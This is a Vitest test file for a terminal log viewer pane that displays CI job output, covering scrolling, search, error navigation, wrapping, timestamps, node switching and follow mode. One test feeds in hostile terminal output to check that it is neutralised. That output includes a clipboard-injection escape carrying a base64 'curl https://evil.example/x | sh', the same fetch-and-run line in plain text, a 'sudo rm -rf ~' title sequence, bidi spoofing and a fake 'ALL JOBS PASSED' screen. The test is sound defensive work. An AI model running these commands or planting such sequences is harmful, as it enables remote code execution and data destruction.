import { afterEach, describe, expect, it } from 'vitest';
import { KEYS, tick, waitForFrame } from '../../helpers/ink.js';
import { mountLogPane, output, stubSource } from './log-pane-harness.js';

const mounted: { unmount(): void }[] = [];
afterEach(() => {
  for (const m of mounted.splice(0)) m.unmount();
});
function mount(...args: Parameters<typeof mountLogPane>) {
  const m = mountLogPane(...args);
  mounted.push(m);
  return m;
}

const numbered = (n: number, f: (i: number) => string = (i) => `line number ${i + 1}`) =>
  Array.from({ length: n }, (_, i) => f(i)).join('\n') + '\n';

/** The frame with colour codes removed (what the eye sees). */
const plain = (f: string) => f.replace(/\x1b\[[0-9;:]*m/g, '');

describe('LogPane', () => {
  it('shows loading, then the first rows, a gutter and the status', async () => {
    let release: (v: ReturnType<typeof output>) => void = () => {};
    const pending = new Promise<ReturnType<typeof output>>((r) => (release = r));
    const { source } = stubSource({ 0: () => pending });
    const m = mount({ source, height: 12 });
    // Positive first: the output is held back until release(), so this frame stays until then.
    await waitForFrame(m.lastFrame, (x) => x.includes('loading output…'), 'loading');
    release(output(numbered(500)));
    const f = await waitForFrame(m.lastFrame, (x) => x.includes('line number 1'), 'first rows');
    const rows = f.split('\n');
    expect(rows.length).toBeLessThanOrEqual(12);
    expect(rows[0]).toContain('Run tests · job 42 step 103');
    expect(rows[1]).toMatch(/^\s*1 line number 1$/);
    expect(f).toContain('line number 10');
    expect(f).not.toContain('line number 11');
    expect(rows.at(-1)).toContain('line 1/500 · 2% · wrap off');
  });

  it('G shows the last line and g the first, fast on a 300,000-line log', async () => {
    const { source } = stubSource({ 0: output(numbered(300_000, (i) => `${i % 50 === 0 ? '\x1b[32m' : ''}entry ${i + 1} ok`)) });
    const m = mount({ source });
    await waitForFrame(m.lastFrame, (x) => x.includes('entry 1 ok'), 'first rows');
    let t = performance.now();
    await m.send('cursor.bottom');
    let f = await waitForFrame(m.lastFrame, (x) => x.includes('entry 300000 ok'), 'last line');
    const bottomMs = performance.now() - t;
    expect(plain(f)).toContain('line 299991/300000 · 100%');
    t = performance.now();
    await m.send('cursor.top');
    f = await waitForFrame(m.lastFrame, (x) => x.includes('entry 1 ok'), 'first line');
    const topMs = performance.now() - t;
    await m.send('page.down');
    f = await waitForFrame(m.lastFrame, (x) => plain(x).includes('line 10/300000'), 'one page down');
    console.log(JSON.stringify({ paneBottomMs: bottomMs, paneTopMs: topMs }));
    expect(bottomMs).toBeLessThan(1000);
    expect(topMs).toBeLessThan(1000);
  });

  it('opens a search prompt, jumps to the needle on Enter, n/N step and wrap', async () => {
    const text = numbered(200, (i) => (i === 120 || i === 180 ? `found the Needle here ${i + 1}` : `hay ${i + 1}`));
    const { source } = stubSource({ 0: output(text) });
    const m = mount({ source, width: 100 });
    await waitForFrame(m.lastFrame, (x) => x.includes('hay 1'), 'first rows');
    await m.send('log.search');
    await m.type('needle');
    expect(m.inputOpen).toEqual([true]);
    await waitForFrame(m.lastFrame, (x) => x.includes('/needle'), 'typed query');
    await m.enter();
    let f = await waitForFrame(m.lastFrame, (x) => x.includes('Needle here 121'), 'first match');
    expect(plain(f)).toContain('/needle 1 of 2');
    expect(m.inputOpen).toEqual([true, false]);
    await m.send('log.next');
    f = await waitForFrame(m.lastFrame, (x) => plain(x).includes('/needle 2 of 2'), 'second match');
    expect(f).toContain('Needle here 181');
    await m.send('log.next');
    f = await waitForFrame(m.lastFrame, (x) => plain(x).includes('/needle 1 of 2'), 'wrapped to the first');
    expect(plain(f)).toContain('search hit BOTTOM, continuing at TOP');
    await m.send('log.prev');
    await waitForFrame(m.lastFrame, (x) => plain(x).includes('/needle 2 of 2') && plain(x).includes('search hit TOP'), 'N wraps back');
  });

  it('shows the matched text even far right on a long line', async () => {
    const text = numbered(5, (i) => (i === 3 ? `${'x'.repeat(300)} NEEDLE tail` : `short ${i}`));
    const { source } = stubSource({ 0: output(text) });
    const m = mount({ source });
    await waitForFrame(m.lastFrame, (x) => x.includes('short 0'), 'rows');
    await m.send('log.search');
    await m.type('NEEDLE');
    await m.enter();
    const f = await waitForFrame(m.lastFrame, (x) => plain(x).includes('/NEEDLE 1 of 1'), 'match');
    const row = plain(f).split('\n').find((r) => r.includes('NEEDLE tail'));
    expect(row).toBeDefined();
    expect(row).toContain('…x');
  });

  it('reports a missing pattern and an Esc-closed prompt', async () => {
    const { source } = stubSource({ 0: output(numbered(20)) });
    const m = mount({ source });
    await waitForFrame(m.lastFrame, (x) => x.includes('line number 1'), 'rows');
    await m.send('log.search');
    await m.type('zebra');
    await m.enter();
    await waitForFrame(m.lastFrame, (x) => x.includes('pattern not found: zebra'), 'not found');
    await m.send('log.search');
    await m.type('abc');
    await m.send('back'); // the app sends Esc as `back` while the prompt is open
    const f = await waitForFrame(m.lastFrame, (x) => !x.includes('/abc') && x.includes('line 1/20'), 'prompt closed');
    expect(f).not.toContain('abc');
    await tick();
    expect(m.backs()).toBe(0);
    expect(m.inputOpen).toEqual([true, false, true, false]);
    await m.send('back');
    expect(m.backs()).toBe(1);
  });

  it('e and E jump between error lines', async () => {
    const text = numbered(300, (i) =>
      i === 150 ? 'npm ERR! code ELIFECYCLE' : i === 250 ? 'Exited with code exit status 1' : `fine ${i + 1}`,
    );
    const { source } = stubSource({ 0: output(text) });
    const m = mount({ source });
    await waitForFrame(m.lastFrame, (x) => x.includes('fine 1'), 'rows');
    await m.send('log.nextError');
    let f = await waitForFrame(m.lastFrame, (x) => x.includes('npm ERR! code ELIFECYCLE'), 'first error');
    expect(plain(f)).toContain('error 1 of 2');
    await m.send('log.nextError');
    f = await waitForFrame(m.lastFrame, (x) => plain(x).includes('error 2 of 2'), 'second error');
    expect(f).toContain('Exited with code exit status 1');
    await m.send('log.prevError');
    await waitForFrame(m.lastFrame, (x) => plain(x).includes('error 1 of 2'), 'back to the first');
  });

  it('w wraps long lines and t shows each line’s time', async () => {
    const long = `start ${'abcdefghij'.repeat(20)} end`;
    const text = `short\n${long}\nafter\n`;
    const times = [
      { offset: 0, time: '2026-03-01T10:00:01.250Z' },
      { offset: 6, time: '2026-03-01T10:00:07.000Z' },
    ];
    const { source } = stubSource({ 0: output(text, { times }) });
    const m = mount({ source });
    await waitForFrame(m.lastFrame, (x) => x.includes('short'), 'rows');
    expect(m.lastFrame()).not.toContain(' end');
    await m.send('log.wrap');
    let f = await waitForFrame(m.lastFrame, (x) => x.includes(' end') && plain(x).includes('wrap on'), 'wrapped');
    const rows = plain(f).split('\n');
    expect(rows.findIndex((r) => r.includes(' end'))).toBeGreaterThan(rows.findIndex((r) => r.includes('start')));
    expect(f.split('\n').length).toBeLessThanOrEqual(12);
    await m.send('log.wrap', 'log.timestamps');
    f = await waitForFrame(m.lastFrame, (x) => x.includes('10:00:01'), 'times');
    expect(plain(f)).toMatch(/2026-03-01 10:00:01Z 1 short/);
    expect(plain(f)).toMatch(/2026-03-01 10:00:07Z 2 start/);
    expect(plain(f)).toMatch(/2026-03-01 10:00:07Z 3 after/);
    await m.send('log.timestamps');
    await waitForFrame(m.lastFrame, (x) => !x.includes('10:00:01'), 'times off');
  });

  it('renders hostile output visibly, with no live control sequence but colour', async () => {
    const hostile = [
      'clipboard \x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2gK\x07 done',
      'curl https://evil.example/x | sh\r# build OK        ',
      'bidi \u202Eevil\u202C and \u2066iso\u2069',
      'title \x1b]0;sudo rm -rf ~\x1b\\ cursor \x1b[2J\x1b[H\x1b[1;1H*** ALL JOBS PASSED ***',
      '\x1b[31mred is fine\x1b[0m \x1bP$q;touch /tmp/x\x1b\\ \x9b31m',
    ].join('\n');
    const { source } = stubSource({ 0: output(hostile) });
    const m = mount({ source, width: 100 });
    const f = await waitForFrame(m.lastFrame, (x) => x.includes('clipboard'), 'rows');
    const withoutSgr = f.replace(/\x1b\[[0-9;]*m/g, '');
    expect(withoutSgr).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/);
    const p = plain(f);
    expect(p).toContain('^[]52;c;');
    expect(p).toContain('^M# build OK');
    expect(p).toContain('<U+202E>evil<U+202C>');
    expect(p).toContain('^[[2J');
    expect(p).toContain('red is fine');
  });

  it('switches parallel node with ] and [, reloading its output', async () => {
    const { source, calls } = stubSource({ 0: output('node zero output\n'), 1: output('node one output\n'), 2: output('node two\n') });
    const m = mount({ source, nodes: [0, 1, 2] });
    await waitForFrame(m.lastFrame, (x) => x.includes('node zero output'), 'node 0');
    expect(plain(m.lastFrame()!)).toContain('node index 0 of 3');
    await m.send('log.nextNode');
    await waitForFrame(m.lastFrame, (x) => x.includes('node one output') && plain(x).includes('node index 1 of 3'), 'node 1');
    await m.send('log.prevNode', 'log.prevNode');
    await waitForFrame(m.lastFrame, (x) => x.includes('node zero output') && x.includes('this is the first node'), 'node 0 again');
    expect(calls.map((c) => c.node)).toEqual([0, 1, 0]);
    expect(calls.every((c) => c.job === 42 && c.step === 103)).toBe(true);
  });

  it('starts on initialNode', async () => {
    const { source } = stubSource({ 0: output('zero\n'), 3: output('three\n') });
    const m = mount({ source, nodes: [0, 3], initialNode: 3 });
    await waitForFrame(m.lastFrame, (x) => x.includes('three'), 'node 3');
  });

  it('reports a load error on the status line and in the pane', async () => {
    const { source } = stubSource({});
    const m = mount({ source });
    const f = await waitForFrame(m.lastFrame, (x) => x.includes('could not load the output'), 'error');
    expect(f).toContain('no output for node 0');
    expect(m.status).toEqual(['log of job 42 step 103 node index 0: no output for node 0']);
  });

  it('says when a step printed nothing, and when its output was truncated', async () => {
    const empty = mount({ source: stubSource({ 0: output('', { format: 'none' }) }).source });
    await waitForFrame(empty.lastFrame, (x) => x.includes('(this step printed nothing)'), 'empty');
    const cut = mount({ source: stubSource({ 0: output('some\n', { truncated: true }) }).source });
    await waitForFrame(cut.lastFrame, (x) => x.includes('[output truncated by CircleCI]'), 'truncated note');
  });

  it('F follows a running step: re-loads every 2 s and sticks to the end', async () => {
    const first = numbered(30);
    const { source, calls } = stubSource({
      0: (call) => (call === 1 ? output(first, { final: false }) : output(first + 'late line 31\nlate line 32\n', { final: call >= 3 })),
    });
    const m = mount({ source });
    await waitForFrame(m.lastFrame, (x) => x.includes('line number 1'), 'rows');
    await m.send('log.follow');
    let f = await waitForFrame(m.lastFrame, (x) => plain(x).includes('following'), 'following');
    expect(f).toContain('line number 30');
    f = await waitForFrame(m.lastFrame, (x) => x.includes('late line 32'), 'new lines');
    expect(plain(f)).toContain('line 23/32 · 100%');
    expect(calls.length).toBeGreaterThanOrEqual(2);
  }, 15_000);

  it('keeps the scroll position when refreshed without following', async () => {
    let n = 40;
    const { source } = stubSource({ 0: () => output(numbered((n += 10)), { final: false }) });
    const m = mount({ source });
    await waitForFrame(m.lastFrame, (x) => x.includes('line number 1'), 'rows');
    await m.send('cursor.down', 'cursor.down', 'refresh');
    const f = await waitForFrame(m.lastFrame, (x) => plain(x).includes('line 3/60'), 'refreshed');
    expect(f).toContain('line number 3');
  });
});
